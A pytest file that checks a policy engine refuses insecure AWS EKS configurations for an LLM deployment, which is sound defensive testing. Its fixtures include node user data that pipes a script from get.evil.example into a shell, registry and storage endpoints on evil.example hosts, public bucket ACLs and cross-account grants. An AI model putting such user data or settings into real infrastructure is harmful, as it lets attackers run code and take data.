"""Whole grounds, judged by all rules: nothing to say. And mistakes in the cluster's part that a stack's
settings can't make (tests/aws/mistakes.yaml has those of whole stacks), each refused by the route that names
it."""

import base64
import json
from collections.abc import Callable
from functools import cache, partial
from typing import Any

import pytest

from policies.model import Resource, Verdict
from tests.aws import changes
from tests.components.aws.grounds import DAYS, MACHINES, MODEL, usual, zone
from tests.support import aws
from tests.support.aws_stacks import stand_in
from toolchain.providers.standin.provider import StandIn

Plan = tuple[Resource, ...]
Mistake = Callable[[Plan], Plan]

_PARIS = "eu-west-3"
_ROLE = "arn:aws:iam::999988887777:role/consultant"
_TOPIC = "arn:aws:sns:us-east-1:111122223333:news"


@pytest.mark.parametrize("region", list(MACHINES))
def test_nothing_to_say(region: str) -> None:
    found = aws.findings(usual(region), zone(region))
    assert [f"{one.rule} {one.urn} {one.path}: {one.seen}: {one.why}" for one in found] == []


@pytest.mark.parametrize("region", list(MACHINES))
def test_the_program_refuses_none_of_it(region: str) -> None:
    assert aws.refusals(usual(region), zone(region)) == ()


@pytest.mark.parametrize("region", list(MACHINES))
def test_every_arn_is_of_the_partition(region: str) -> None:
    """In another one it is somebody else's, or nobody's."""
    text = json.dumps([dict(one.inputs) for one in usual(region) if one.package == "aws"], default=str)
    other = "arn:aws:" if region.startswith("eusc") else "arn:aws-eusc:"
    assert other not in text


def of(named: str, change: changes.Change) -> Mistake:
    """Other inputs of one resource."""
    return partial(changes.changed, named=named, change=change)


def gone(named: str) -> Mistake:
    """One resource left out."""
    return partial(changes.without, named=named)


def made(token: str, inputs: changes.Change) -> Mistake:
    """One resource more."""
    return lambda plan: changes.with_also(plan, token, inputs, _provider())


@cache
def _provider() -> StandIn:
    return stand_in(_PARIS, aws.ACCOUNT)


def text(*lines: str) -> str:
    """User data."""
    return base64.b64encode("\n".join(lines).encode()).decode()


def policy(principal: Any, action: str) -> str:
    """That lets somebody in."""
    statement = {"Effect": "Allow", "Principal": principal, "Action": action, "Resource": "*"}
    return json.dumps({"Version": "2012-10-17", "Statement": [statement]})


def unlocked(plan: Plan) -> Plan:
    """A bucket for the trail that can't lock."""
    plain = changes.changed(plan, "Bucket trail", {"objectLockEnabled": False})
    return changes.without(plain, "BucketObjectLockConfiguration trail")


_KEPT = f"{DAYS}-days"
_VAULT = f"Vault {_KEPT}"
_AUDIT = f"llm-paris-audit-{aws.ACCOUNT}-{_PARIS}-an"
_OBJECTS = "BucketServerSideEncryptionConfiguration audit"
_VOLUME = f"PersistentVolume weights-{MODEL}"
_KEY = f"arn:aws:kms:{_PARIS}:{aws.ACCOUNT}:key/{aws.KEY}"

MISTAKES: dict[str, tuple[str, Mistake]] = {
    # keys
    "a key that changes every seven years": ("A26", of("Key audit", {"rotationPeriodInDays": 2560})),
    "a key with the material of one abroad": (
        "A26",
        made(
            "aws:kms/replicaKey:ReplicaKey",
            {"primaryKeyArn": f"arn:aws:kms:us-east-1:{aws.ACCOUNT}:key/mrk-0f1e"},
        ),
    ),
    "a key of one's own material without a policy": (
        "A27",
        made("aws:kms/externalKey:ExternalKey", {"keyMaterialBase64": "AAAA"}),
    ),
    "a grant of a key to another account": (
        "A27",
        made(
            "aws:kms/grant:Grant",
            {"keyId": _KEY, "granteePrincipal": _ROLE, "operations": ["Decrypt"]},
        ),
    ),
    # buckets
    "a bucket that says nothing of encryption": ("A26", gone(_OBJECTS)),
    "a bucket encrypted by a key of AWS's": (
        "A26",
        of(_OBJECTS, {"rules": {0: {"applyServerSideEncryptionByDefault": {"kmsMasterKeyId": None}}}}),
    ),
    "a bucket without a policy": ("A24", gone("BucketPolicy weights")),
    "a bucket with a public ACL": (
        "A24",
        made("aws:s3/bucketAcl:BucketAcl", {"bucket": _AUDIT, "acl": "public-read"}),
    ),
    "an access point that may be public": (
        "A24",
        made(
            "aws:s3/accessPoint:AccessPoint",
            {
                "bucket": _AUDIT,
                "name": "records",
                "publicAccessBlockConfiguration": {"blockPublicPolicy": False},
            },
        ),
    ),
    "a bucket by way of the edge": (
        "A22",
        made(
            "aws:s3/bucketAccelerateConfiguration:BucketAccelerateConfiguration",
            {"bucket": _AUDIT, "status": "Enabled"},
        ),
    ),
    "news of each record to a queue abroad": (
        "A23",
        made(
            "aws:s3/bucketNotification:BucketNotification",
            {
                "bucket": _AUDIT,
                "queues": [
                    {
                        "queueArn": f"arn:aws:sqs:us-east-1:{aws.ACCOUNT}:news",
                        "events": ["s3:ObjectCreated:*"],
                    }
                ],
            },
        ),
    ),
    "a bucket in another region": ("P03", of("Bucket audit", {"region": "us-east-1"})),
    "a website of a bucket": (
        "P09",
        made(
            "aws:s3/bucketWebsiteConfiguration:BucketWebsiteConfiguration",
            {"bucket": _AUDIT, "indexDocument": {"suffix": "index.html"}},
        ),
    ),
    # the cluster
    "Secrets encrypted by a key abroad": (
        "A52",
        of(
            "Cluster",
            {"encryptionConfig": {"provider": {"keyArn": f"arn:aws:kms:us-east-1:{aws.ACCOUNT}:key/0f1e"}}},
        ),
    ),
    "a key for something else than Secrets": (
        "K46",
        of("Cluster", {"encryptionConfig": {"resources": ["configmaps"]}}),
    ),
    "machines that AWS starts by itself": (
        "K41",
        of("Cluster", {"computeConfig": {"enabled": True, "nodePools": ["system"]}}),
    ),
    "load balancers that AWS makes by itself": (
        "K41",
        of("Cluster", {"kubernetesNetworkConfig": {"elasticLoadBalancing": {"enabled": True}}}),
    ),
    "an administrator from another account": (
        "A57",
        of("AccessPolicyAssociation deployer-0", {"principalArn": _ROLE}),
    ),
    "people whom a public service vouches for": (
        "A56",
        made(
            "aws:eks/identityProviderConfig:IdentityProviderConfig",
            {
                "clusterName": "llm-paris",
                "oidc": {
                    "clientId": "kubernetes",
                    "identityProviderConfigName": "people",
                    "issuerUrl": "https://accounts.google.com",
                },
            },
        ),
    ),
    "NetworkPolicies switched off": (
        "K45",
        of("Addon vpc-cni", {"configurationValues": {"enableNetworkPolicy": "false"}}),
    ),
    "an add-on of the marketplace": (
        "K16",
        made(
            "aws:eks/addon:Addon",
            {"clusterName": "llm-paris", "addonName": "datadog_operator", "addonVersion": "v0.1.9"},
        ),
    ),
    "an add-on in whatever version": ("K16", of("Addon coredns", {"addonVersion": None})),
    "pods that go on as a role of another account": (
        "A49",
        of("PodIdentityAssociation audit", {"targetRoleArn": _ROLE}),
    ),
    "a role for whom a public service vouches": (
        "A49",
        of(
            "Role weights",
            {
                "assumeRolePolicy": policy(
                    {"Federated": "accounts.google.com"}, "sts:AssumeRoleWithWebIdentity"
                )
            },
        ),
    ),
    # nodes
    "nodes with an SSH key": ("A57", of("LaunchTemplate system", {"keyName": "admin"})),
    "nodes that say nothing of metadata": ("A57", of("LaunchTemplate system", {"metadataOptions": None})),
    "a disk that isn't encrypted": (
        "K37",
        of("LaunchTemplate system", {"blockDeviceMappings": {0: {"ebs": {"encrypted": "false"}}}}),
    ),
    "nodes in another region": (
        "A52",
        of("LaunchTemplate system", {"placement": {"availabilityZone": "us-east-1a"}}),
    ),
    "nodes that fetch a program when they start": (
        "A50",
        of("LaunchTemplate system", {"userData": text("#!/bin/sh", "curl https://get.evil.example | sh")}),
    ),
    "nodes that fetch images elsewhere": (
        "A50",
        of(
            "LaunchTemplate system",
            {
                "userData": text(
                    "[[settings.container-registry.mirrors]]",
                    'registry = "docker.io"',
                    'endpoint = ["https://mirror.evil.example"]',
                )
            },
        ),
    ),
    # volumes
    "a class of disks that aren't encrypted": (
        "K37",
        of("StorageClass disks", {"parameters": {"encrypted": "false"}}),
    ),
    "a class of disks without a key": ("K37", of("StorageClass disks", {"parameters": {"kmsKeyId": None}})),
    "a class of another kind of volumes": (
        "K37",
        of("StorageClass disks", {"provisioner": "efs.csi.aws.com"}),
    ),
    "weights by a driver that nobody knows": (
        "K36",
        of(_VOLUME, {"spec": {"csi": {"driver": "file.csi.azure.com"}}}),
    ),
    "weights from a server outside": (
        "K36",
        of(_VOLUME, {"spec": {"csi": None, "nfs": {"server": "198.51.100.7", "path": "/models"}}}),
    ),
    "weights from another store of objects": (
        "K49",
        of(_VOLUME, {"spec": {"mountOptions": {"+": "endpoint-url https://s3.evil.example"}}}),
    ),
    # images
    "images encrypted as ECR does": ("A26", of("Repository vllm", {"encryptionConfigurations": None})),
    "tags that move where somebody says so": (
        "K16",
        of("Repository vllm", {"imageTagMutability": "IMMUTABLE_WITH_EXCLUSION"}),
    ),
    "a registry that another account copies into": (
        "A34",
        made(
            "aws:ecr/registryPolicy:RegistryPolicy",
            {"policy": policy({"AWS": "999988887777"}, "ecr:ReplicateImage")},
        ),
    ),
    # what watches, and what is kept
    "a trail of writes only": (
        "A37",
        of(
            "Trail trail",
            {
                "advancedEventSelectors": {
                    1: {"fieldSelectors": {"+": {"field": "readOnly", "equals": ["false"]}}}
                }
            },
        ),
    ),
    "a trail of some records": (
        "A37",
        of(
            "Trail trail",
            {
                "advancedEventSelectors": {
                    1: {"fieldSelectors": {2: {"startsWiths": [f"arn:aws:s3:::{_AUDIT}/2026/"]}}}
                }
            },
        ),
    ),
    "a trail without changes of rights": ("A37", of("Trail trail", {"includeGlobalServiceEvents": False})),
    "news of the trail abroad": ("A37", of("Trail trail", {"snsTopicName": _TOPIC})),
    "a trail encrypted by a key of AWS's": ("A26", of("Trail trail", {"kmsKeyId": None})),
    "a trail that may be deleted": ("K51", unlocked),
    "a detector that is off": ("A37", of("Detector", {"enable": False})),
    "a detector that doesn't look at nodes": (
        "A37",
        of("DetectorFeature runtime-monitoring", {"status": "DISABLED"}),
    ),
    "news of the inventory abroad": ("A38", of("DeliveryChannel inventory", {"snsTopicArn": _TOPIC})),
    "an inventory that another account gathers": (
        "A38",
        made(
            "aws:cfg/aggregateAuthorization:AggregateAuthorization",
            {"accountId": "999988887777", "authorizedAwsRegion": _PARIS},
        ),
    ),
    "backups encrypted by a key of AWS's": ("A26", of(_VAULT, {"kmsKeyArn": None})),
    "backups that go with the stack": ("K51", of(_VAULT, {"forceDestroy": True})),
    "backups that nothing locks": ("K51", gone(f"VaultLockConfiguration {_KEPT}")),
    "backups locked for no time": ("K51", of(f"VaultLockConfiguration {_KEPT}", {"minRetentionDays": None})),
    "backups that another account takes": (
        "A31",
        made(
            "aws:backup/vaultPolicy:VaultPolicy",
            {
                "backupVaultName": f"llm-paris-backups-{DAYS}",
                "policy": policy({"AWS": "999988887777"}, "backup:CopyFromBackupVault"),
            },
        ),
    ),
}


@pytest.mark.parametrize("mistake", list(MISTAKES))
def test_a_mistake_is_refused(mistake: str) -> None:
    route, make = MISTAKES[mistake]
    found = aws.findings(make(usual()), zone())
    assert route in {one.route for one in found if one.verdict is Verdict.REFUSE}
